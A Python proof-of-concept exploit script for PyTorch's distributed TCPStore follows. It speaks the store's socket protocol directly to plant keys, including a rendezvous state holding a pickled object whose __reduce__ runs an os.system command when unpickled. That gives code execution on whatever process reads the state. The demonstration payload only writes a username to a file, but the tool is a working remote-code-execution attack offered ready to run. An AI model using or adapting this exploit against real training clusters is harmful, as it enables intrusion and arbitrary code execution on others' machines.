"""What an attacker needs to write into a TCPStore: a plain socket. Standard library only.

python3 storeclient.py HOST PORT KEY=TEXT ...    sets keys;  KEY=@pickle:FILE sets a rendezvous state that, unpickled,
makes FILE. Protocol: torch/csrc/distributed/c10d/TCPStoreBackend.hpp (the same from torch 2.2 to 2.15).
"""

import base64
import os
import pickle
import socket
import struct
import sys

_VALIDATE, _SET = 0, 1
_MAGIC = 0x3C85F7CE


class Touch:
    """Makes a file when it is unpickled: code of the attacker's, run as whoever reads it."""

    def __init__(self, path: str) -> None:
        self._path = path

    def __reduce__(self) -> "tuple[object, ...]":
        return os.system, (f"id -un > {self._path}",)


def state(path: str) -> bytes:
    """A rendezvous state as torch's c10d backend stores it."""
    return base64.b64encode(pickle.dumps(Touch(path)))


def plant(host: str, port: int, values: "dict[str, bytes]") -> None:
    """Set keys, named as Store.set names them. Raises OSError where nobody listens."""
    with socket.create_connection((host, port), timeout=10) as connection:
        message = struct.pack("=BI", _VALIDATE, _MAGIC)
        for key, value in values.items():
            name = b"/" + key.encode()
            message += struct.pack("=BQ", _SET, len(name)) + name + struct.pack("=Q", len(value)) + value
        connection.sendall(message)
        connection.shutdown(socket.SHUT_WR)
        while connection.recv(4096):
            pass


def main(words: "list[str]") -> None:
    values = {}
    for word in words[2:]:
        key, _, text = word.partition("=")
        values[key] = state(text[len("@pickle:") :]) if text.startswith("@pickle:") else text.encode()
    plant(words[0], int(words[1]), values)


if __name__ == "__main__":
    main(sys.argv[1:])
